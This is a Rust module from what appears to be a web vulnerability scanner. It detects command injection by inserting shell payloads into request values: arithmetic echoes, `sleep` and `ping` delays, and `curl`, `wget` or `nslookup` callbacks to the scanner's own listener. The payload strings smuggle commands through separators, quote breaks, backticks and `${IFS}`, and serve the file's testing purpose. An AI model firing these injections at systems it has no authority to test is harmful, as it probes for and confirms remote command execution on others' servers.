//! Command injection: a shell works something out, waits as it is told, or calls us.
//!
//! Every payload is written for several quotings at once: where the value stands bare, the first copy
//! of the command runs and a comment hides the others; inside quotes the copy after the closing quote
//! does. They differ in the character that separates commands, as filters take some of them away.
//!
//! Costs at a clean point: 5 requests for output and 4 for time at medium strength, 3 and 2 at low, 10
//! and 8 at high; one or two more where calls from outside are listened for.

use std::time::Duration;

use super::computed::Answer;
use super::computed::Question;
use super::computed::works_out;
use crate::model::Confidence;
use crate::model::EvidenceRole;
use crate::scan::probe::Checking;
use crate::scan::probe::Exhibit;
use crate::scan::probe::InsertionPoint;
use crate::scan::probe::Outcome;
use crate::scan::probe::PointCheck;
use crate::scan::probe::Probe;
use crate::scan::probe::ProbeStop;
use crate::scan::probe::Proof;
use crate::scan::probe::Strength;

/// See the module.
pub(crate) struct CommandInjection;

/// Most frequent first. `$((…))` is arithmetic in POSIX shells
/// (<https://pubs.opengroup.org/onlinepubs/9799919799/utilities/V3_chap02.html#tag_19_06_04>) and in
/// PowerShell alike; `expr` needs neither `$` nor brackets; `set /p` and `set /a` print without a line
/// break at a Windows prompt.
const QUESTIONS: [Question; 10] = [
    Question {
        of: "a shell's arithmetic after `;`",
        ask: "«v»;echo «l»$((«a»*«b»))«r»;#';echo «l»$((«a»*«b»))«r»;#\";echo «l»$((«a»*«b»))«r»;#",
        inert: "«v» echo «l»«a»*«b»«r» #' echo «l»«a»*«b»«r» #\"",
        answer: Answer::Product,
    },
    Question {
        of: "`expr` after `|`",
        ask: "«v»|expr «a» \\* «b» #'|expr «a» \\* «b» #\"|expr «a» \\* «b» #",
        inert: "«v» expr «a» \\* «b» #' expr «a» \\* «b» #\"",
        answer: Answer::BareProduct,
    },
    Question {
        of: "a shell's arithmetic in place or after `|`",
        ask: "«v»«l»$((«a»*«b»))«r»|echo «l»$((«a»*«b»))«r»",
        inert: "«v»«l»«a»*«b»«r» echo «l»«a»*«b»«r»",
        answer: Answer::Product,
    },
    Question {
        of: "a Windows prompt's arithmetic after `&`",
        ask: "«v»&set /p=«l»<nul&set /a «a»*«b»&echo «r»&rem \"&set /p=«l»<nul&set /a «a»*«b»&echo \
              «r»&rem ",
        inert: "«v» set /p=«l» set /a «a»*«b» echo «r»",
        answer: Answer::Product,
    },
    Question {
        of: "a shell's arithmetic after a line break",
        ask: "«v»\necho «l»$((«a»*«b»))«r»\n'\necho «l»$((«a»*«b»))«r»\n\"\necho \
              «l»$((«a»*«b»))«r»\n",
        inert: "«v» echo «l»«a»*«b»«r» ' echo «l»«a»*«b»«r» \"",
        answer: Answer::Product,
    },
    Question {
        of: "`expr` in backticks",
        ask: "«v»`expr «a» \\* «b»`",
        inert: "«v»expr «a» \\* «b»",
        answer: Answer::BareProduct,
    },
    Question {
        of: "a shell's arithmetic after `&`",
        ask: "«v»&echo «l»$((«a»*«b»))«r» #'&echo «l»$((«a»*«b»))«r» #\"&echo «l»$((«a»*«b»))«r» #",
        inert: "«v» echo «l»«a»*«b»«r» #' echo «l»«a»*«b»«r» #\"",
        answer: Answer::Product,
    },
    Question {
        of: "a shell's arithmetic after `;`, without spaces",
        ask: "«v»;echo${IFS}«l»$((«a»*«b»))«r»;",
        inert: "«v»echo«l»«a»*«b»«r»",
        answer: Answer::Product,
    },
    Question {
        of: "a shell's arithmetic between closed and opened quotes",
        ask: "«v»';echo «l»$((«a»*«b»))«r»;'",
        inert: "«v»' echo «l»«a»*«b»«r» '",
        answer: Answer::Product,
    },
    Question {
        of: "a shell's arithmetic after `||`, without a value",
        ask: "||echo «l»$((«a»*«b»))«r» #'||echo «l»$((«a»*«b»))«r» #\"||echo «l»$((«a»*«b»))«r» #",
        inert: "echo «l»«a»*«b»«r» #' echo «l»«a»*«b»«r» #\"",
        answer: Answer::Product,
    },
];

/// Commands that wait, most frequent first; `«s»` are the seconds, `«s+1»` one more. `ping` sends one packet
/// each second, the first at once; its `-w` bounds it where another system reads `-n` in another way.
const WAITS: [&str; 8] = [
    "«v»;sleep «s»;#';sleep «s»;#\";sleep «s»;#",
    "«v»|sleep «s» #'|sleep «s» #\"|sleep «s» #",
    "«v»&ping -n «s+1» -w «s+1» 127.0.0.1&rem \"&ping -n «s+1» -w «s+1» 127.0.0.1&rem ",
    "«v»$(sleep «s»)",
    "«v»\nsleep «s»\n'\nsleep «s»\n\"\nsleep «s»\n",
    "«v»`sleep «s»`",
    "«v»';sleep «s»;'",
    "||sleep${IFS}«s»;#'||sleep${IFS}«s»;#\"||sleep${IFS}«s»;#",
];

/// Commands that call an address: `«u»` is a URL, `«h»` a host.
const CALLS: [&str; 2] = [
    "«v»;«c»;#';«c»;#\";«c»;#",
    "«v»&curl -m 5 «u»&nslookup «h»&rem \"&curl -m 5 «u»&nslookup «h»&rem ",
];

/// What stands for `«c»`: whichever of them is there.
const FETCH: &str = "curl -m 5 «u»||wget -T 5 -O - «u»||nslookup «h»";

impl PointCheck for CommandInjection {
    fn id(&self) -> &'static str {
        "command-injection"
    }

    fn root_cause(&self) -> &'static str {
        "command-injection"
    }

    fn is_blind(&self) -> bool {
        true
    }

    fn applies(&self, _point: &InsertionPoint) -> bool {
        true
    }

    fn run<'a>(&'a self, probe: &'a mut Probe) -> Checking<'a> {
        Box::pin(check(probe))
    }
}

async fn check(probe: &mut Probe) -> Result<Outcome, ProbeStop> {
    let value = probe.point().value.clone();
    let (questions, waits, calls) = match probe.strength() {
        Strength::Low => (3, 2, 1),
        Strength::Medium => (5, 4, 1),
        Strength::High => (QUESTIONS.len(), WAITS.len(), CALLS.len()),
    };
    for question in &QUESTIONS[..questions] {
        if let Some(proof) = works_out(probe, question, &value).await? {
            return Ok(Outcome::Found(Box::new(proof)));
        }
    }
    for wait in &WAITS[..waits] {
        let payload = |time: Duration| {
            let seconds = time.as_secs();
            wait.replace("«v»", &value)
                .replace("«s»", &seconds.to_string())
                .replace("«s+1»", &(seconds + 1).to_string())
        };
        if let Some(proof) = probe.waits_as_told(&payload).await? {
            return Ok(Outcome::Found(Box::new(proof)));
        }
    }
    for call in &CALLS[..calls] {
        expect_call(probe, call, &value).await?;
    }
    Ok(Outcome::Clean)
}

/// Asks a shell to call us, if anybody listens; what comes of it is told at the scan's end.
async fn expect_call(probe: &mut Probe, call: &str, value: &str) -> Result<(), ProbeStop> {
    let Some(address) = probe.sender().address() else { return Ok(()) };
    let host = address.split(['/', ':']).next().unwrap_or_default();
    let payload = call
        .replace("«c»", FETCH)
        .replace("«v»", value)
        .replace("«u»", &format!("http://{address}"))
        .replace("«h»", host);
    let baseline = probe.baseline().await?;
    let attack = probe.fire(&payload).await?;
    let proof = Proof {
        confidence: Confidence::Confirmed,
        detail: format!("`{payload}` made the server call an address that only this payload names"),
        exhibits: vec![
            Exhibit::new(EvidenceRole::Baseline, baseline),
            Exhibit::new(EvidenceRole::Attack, attack),
        ],
        payloads: vec![payload],
    };
    probe.sender().expect_call(address, proof);
    Ok(())
}
